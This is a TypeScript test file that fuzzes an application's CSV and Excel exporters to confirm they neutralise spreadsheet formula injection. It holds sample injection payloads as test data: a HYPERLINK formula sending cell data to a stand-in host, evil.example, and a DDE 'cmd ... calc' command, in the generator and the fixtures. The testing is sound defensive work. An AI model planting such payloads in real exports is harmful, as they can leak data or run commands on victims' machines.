/**
 * Formula injection in exports (OWASP "CSV injection"): text from reporters
 * and definitions that starts with = + - @ (or a tab or carriage return) must
 * reach no spreadsheet as a formula. In CSV every such text cell carries a
 * leading apostrophe, and the importers read it back as the text it was; in
 * .xlsx every text is a string cell, which no spreadsheet evaluates, and the
 * workbook holds no formula at all.
 *
 * The task breakdown's own neutralising and round trip are tested in
 * task-breakdown-cells.test.ts and task-breakdown.test.ts; here every CSV and
 * workbook writer is held to the same rule.
 */
import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { readCsvRecords } from '../core/import/index.js';
import type { ValueRecord } from '../core/import/value-record.js';
import type { CellSelection } from '../services/analytics/cell-selection.js';
import { OPERATOR } from '../services/catalogue.service.js';
import { createServices, type Services } from '../services/container.js';
import { ensureDefaults } from '../services/defaults.service.js';
import { fuzzSettings, fuzzTimeout } from '../test-support/fuzz.js';
import { describeEachStore } from '../test-support/stores.js';
import { writeValuesCsv } from './csv-write.js';
import type { ExportRow } from './export-row.js';
import { createPlanwatchCsvMapper } from './planwatch-csv.js';
import { createSdmxCsvMapper, writeSdmxCsv } from './sdmx-csv.js';
import { writeBreakdownCsv, writeBreakdownWorkbook } from './task-breakdown-write.js';
import type { BreakdownTask } from './task-breakdown.js';
import { buildTemplateWorkbook, writeValuesWorkbook } from './xlsx.js';
import { openZip } from './zip-reader.js';

/** What a spreadsheet runs as a formula when a CSV cell starts with it. */
const RUNS_AS_FORMULA = /^[=+\-@\t\r]/;
/** A number, which a spreadsheet reads as one even with a sign: not a formula. */
const PLAIN_NUMBER = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/;

/**
 * Text that would run as a formula: a trigger (also after a tab, a carriage
 * return or apostrophes someone typed), then a payload that does not end in
 * white space (readers trim cells, which is no injection matter).
 */
const formulaText = fc
  .tuple(
    fc.constantFrom('=', '+', '-', '@', '\t=', '\r+', '\t', '\r', "'=", "''-", "'@"),
    fc.oneof(
      fc.constantFrom(
        'SUM(A1:A9)',
        'HYPERLINK("http://evil.example/?x="&A1,"点击")',
        "cmd|' /C calc'!A0",
        '1+1',
        '2024',
        'x',
        '湖北省',
        '"quoted, with comma"',
        'line\nbreak',
      ),
      fc.string({ minLength: 1, maxLength: 12 }),
    ),
  )
  .map(([trigger, payload]) => `${trigger}${payload}`)
  .filter((text) => !/\s$/.test(text));

/** Mostly formula text, sometimes ordinary text, so both kinds meet in one file. */
const freeText = fc.oneof(
  { weight: 3, arbitrary: formulaText },
  { weight: 1, arbitrary: fc.constantFrom('plain', '估算', "it's", "'quoted") },
);

/** Every cell of a CSV file that a spreadsheet would run: none may be left. */
function expectNoFormulaCells(csv: string, label: string): void {
  const parsed = readCsvRecords(csv.replace(/^\uFEFF/, ''));
  expect(parsed.problems, label).toEqual([]);
  for (const row of [parsed.header, ...parsed.rows.map((record) => record.cells)]) {
    for (const cell of row) {
      if (RUNS_AS_FORMULA.test(cell)) expect(cell, label).toMatch(PLAIN_NUMBER);
    }
  }
}

/** Every sheet of a workbook: no formula anywhere, and the texts as they are among its strings. */
async function workbookStrings(bytes: Buffer): Promise<{ formulas: number; strings: string[] }> {
  const archive = await openZip(bytes);
  let formulas = 0;
  const strings: string[] = [];
  try {
    for (const [name, entry] of archive.entries) {
      if (!/^xl\/(worksheets\/.*|sharedStrings)\.xml$/.test(name)) continue;
      const chunks: Buffer[] = [];
      for await (const chunk of await archive.open(entry)) chunks.push(chunk as Buffer);
      const xml = Buffer.concat(chunks).toString('utf8');
      formulas += (xml.match(/<f[\s>/]/g) ?? []).length;
      for (const match of xml.matchAll(/<t(?:\s[^>]*)?>([^<]*)<\/t>/g))
        strings.push(xmlText(match[1]!));
    }
  } finally {
    await archive.close();
  }
  return { formulas, strings };
}

function xmlText(text: string): string {
  return text
    .replace(/_x([0-9A-Fa-f]{4})_/g, (_, hex: string) => String.fromCharCode(parseInt(hex, 16)))
    .replace(/&(lt|gt|quot|apos|amp|#x[0-9a-fA-F]+|#\d+);/g, (_, entity: string) => {
      if (entity.startsWith('#x')) return String.fromCodePoint(parseInt(entity.slice(2), 16));
      if (entity.startsWith('#')) return String.fromCodePoint(parseInt(entity.slice(1), 10));
      return { lt: '<', gt: '>', quot: '"', apos: "'", amp: '&' }[entity]!;
    });
}

const exportRow: fc.Arbitrary<ExportRow> = fc.record({
  indicator: fc.constantFrom('users_5g', 'internet_users'),
  orgUnit: fc.constantFrom('CN', '420000'),
  period: fc.constantFrom('2024', '2024Q3', '202407'),
  disaggregation: fc.constantFrom('', 'AREA=URBAN'),
  value: fc.oneof(
    fc.constantFrom(-5, -0.5, -1e-9, 3, -1e21),
    fc.double({ noNaN: true, noDefaultInfinity: true }),
  ),
  comment: fc.option(freeText),
  source: fc.option(freeText),
});

/** What the importers read back from a record: the fields a file carries. */
const fieldsOf = (record: ValueRecord | unknown[] | null) => {
  if (record === null || Array.isArray(record)) return record;
  const { indicator, orgUnit, period, disaggregation, comment, source } = record;
  return { indicator, orgUnit, period, disaggregation, comment, source };
};
const expectedFields = (row: ExportRow) => ({
  indicator: row.indicator,
  orgUnit: row.orgUnit,
  period: row.period,
  disaggregation: row.disaggregation,
  comment: row.comment ?? '',
  source: row.source ?? '',
});

const RUNS = 100;

describe('CSV exports neutralise formulas and the importers read the text back', () => {
  it('values CSV: no cell runs as a formula; the plain CSV importer reads each text as written', () => {
    fc.assert(
      fc.property(fc.array(exportRow, { minLength: 1, maxLength: 8 }), (rows) => {
        const csv = Array.from(writeValuesCsv(rows)).join('');
        expectNoFormulaCells(csv, csv);
        const parsed = readCsvRecords(csv);
        const mapper = createPlanwatchCsvMapper(parsed.header);
        expect(mapper.headerProblems).toEqual([]);
        expect(parsed.rows.map((row) => fieldsOf(mapper.map(row)))).toEqual(
          rows.map(expectedFields),
        );
      }),
      fuzzSettings(RUNS),
    );
  });

  it('SDMX-CSV: no COMMENT or SOURCE runs as a formula; the SDMX-CSV importer reads them as written', () => {
    fc.assert(
      fc.property(fc.array(exportRow, { minLength: 1, maxLength: 8 }), (rows) => {
        const options = { dataflow: 'PLANWATCH:DF_NIDS(1.0)', categoryCodes: ['AREA'] };
        const csv = Array.from(writeSdmxCsv(rows, options)).join('');
        expectNoFormulaCells(csv, csv);
        const parsed = readCsvRecords(csv);
        const mapper = createSdmxCsvMapper(parsed.header, options);
        expect(mapper.headerProblems).toEqual([]);
        expect(parsed.rows.map((row) => fieldsOf(mapper.map(row)))).toEqual(
          rows.map(expectedFields),
        );
      }),
      fuzzSettings(RUNS),
    );
  });

  it('task breakdown CSV: no cell runs as a formula, whichever field holds one', () => {
    const task: fc.Arbitrary<BreakdownTask> = fc.record({
      ref: freeText,
      parentRef: fc.constant(null),
      parentTaskId: fc.constant(null),
      plan: freeText,
      measure: freeText,
      title: freeText,
      description: freeText,
      leadUnit: freeText,
      participants: fc.array(freeText, { maxLength: 2 }),
      startOn: freeText,
      dueOn: freeText,
      milestones: fc.array(fc.record({ title: freeText, dueOn: fc.constant('2026-06-30') }), {
        maxLength: 2,
      }),
      deliverables: fc.array(freeText, { maxLength: 2 }),
      indicators: fc.array(freeText, { maxLength: 2 }),
    });
    fc.assert(
      fc.property(
        fc.array(task, { minLength: 1, maxLength: 4 }),
        fc.constantFrom('en', 'zh' as const),
        (tasks, language) => {
          const csv = writeBreakdownCsv(tasks, language);
          expectNoFormulaCells(csv, csv);
        },
      ),
      fuzzSettings(RUNS / 2),
    );
  });
});

describe('workbook exports hold formula text as strings, never as formulas', () => {
  it(
    'values workbook and data entry template',
    async () => {
      await fc.assert(
        fc.asyncProperty(
          fc.array(exportRow, { minLength: 1, maxLength: 4 }),
          freeText,
          async (rows, title) => {
            const workbook = await writeValuesWorkbook(rows, { language: 'en', title });
            const { formulas, strings } = await workbookStrings(workbook);
            expect(formulas).toBe(0);
            for (const row of rows)
              for (const text of [row.comment, row.source])
                if (text) expect(strings).toContain(text);

            const template = await buildTemplateWorkbook({
              dataSet: { code: 'nids-annual', nameEn: title, nameZh: title },
              orgUnit: { code: '420000', nameZh: title, nameEn: null },
              period: '2024',
              language: 'zh',
              generatedAt: '2025-01-01T00:00:00Z',
              rows: rows.map((row) => ({
                indicator: row.indicator,
                indicatorName: row.comment ?? 'name',
                unitLabel: row.source ?? 'unit',
                disaggregation: row.disaggregation,
                disaggregationLabel: '',
                value: row.value,
                comment: row.comment,
                source: row.source,
                required: true,
              })),
            });
            const inTemplate = await workbookStrings(template);
            expect(inTemplate.formulas).toBe(0);
            for (const row of rows)
              if (row.comment) expect(inTemplate.strings).toContain(row.comment);
          },
        ),
        fuzzSettings(RUNS / 5),
      );
    },
    fuzzTimeout(RUNS / 5, 2000),
  );

  it(
    'task breakdown workbook',
    async () => {
      await fc.assert(
        fc.asyncProperty(freeText, freeText, async (title, description) => {
          const workbook = await writeBreakdownWorkbook(
            [
              {
                ref: 'T1',
                parentRef: null,
                parentTaskId: null,
                plan: 'nids-2016',
                measure: 'III.2.3',
                title,
                description,
                leadUnit: '420000',
                participants: [],
                startOn: '2026-01-01',
                dueOn: '2026-12-31',
                milestones: [],
                deliverables: [description],
                indicators: [],
              },
            ],
            { title },
          );
          const { formulas, strings } = await workbookStrings(workbook);
          expect(formulas).toBe(0);
          // Text there too, with the same apostrophe as the CSV (the reader takes it off).
          expect(strings.some((text) => text.endsWith(title))).toBe(true);
        }),
        fuzzSettings(RUNS / 5),
      );
    },
    fuzzTimeout(RUNS / 5, 2000),
  );
});

describeEachStore('exports of stored text', (fixture) => {
  let services: Services;
  const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"查看")';
  const HOSTILE_UNIT = "@SUM(1+1)*cmd|' /C calc'!A0";

  beforeAll(async () => {
    const db = fixture.store.db;
    await ensureDefaults(db);
    services = createServices(fixture.store, { now: () => new Date('2021-04-01T08:00:00Z') });
    // Names come from definitions anyone with plan:configure edits: each could carry a formula.
    await db
      .updateTable('indicator')
      .set({ nameEn: HOSTILE_NAME, nameZh: HOSTILE_NAME, unit: HOSTILE_UNIT })
      .execute();
    await db.updateTable('orgUnit').set({ nameZh: '-2+3', nameEn: '+1-1' }).execute();
  });

  const selection: CellSelection = {
    indicators: ['internet_users', 'users_5g'],
    orgUnits: ['CN'],
    from: 2015,
    to: 2024,
  };

  it('analytics figures as CSV: names and units neutralised, numbers as numbers', async () => {
    for (const language of ['zh', 'en'] as const) {
      const file = await services.analytics.exportCells(OPERATOR, selection, 'csv', language);
      const csv = file.body.toString('utf8');
      expectNoFormulaCells(csv, csv);
      const parsed = readCsvRecords(csv.replace(/^\uFEFF/, ''));
      expect(parsed.rows.length).toBeGreaterThan(0);
      const nameColumn = parsed.header.indexOf('indicator_name');
      expect(parsed.rows.every((row) => row.cells[nameColumn] === `'${HOSTILE_NAME}`)).toBe(true);
    }
  });

  it('analytics figures as a workbook: formula text as strings', async () => {
    const file = await services.analytics.exportCells(OPERATOR, selection, 'xlsx', 'en');
    const { formulas, strings } = await workbookStrings(file.body);
    expect(formulas).toBe(0);
    expect(strings).toContain(HOSTILE_NAME);
    expect(strings).toContain(HOSTILE_UNIT);
  });

  it('the yearly report workbook: formula text as strings', async () => {
    const { formulas, strings } = await workbookStrings(await services.report.xlsx(2020, 'en'));
    expect(formulas).toBe(0);
    expect(strings).toContain(HOSTILE_NAME);
  });
});
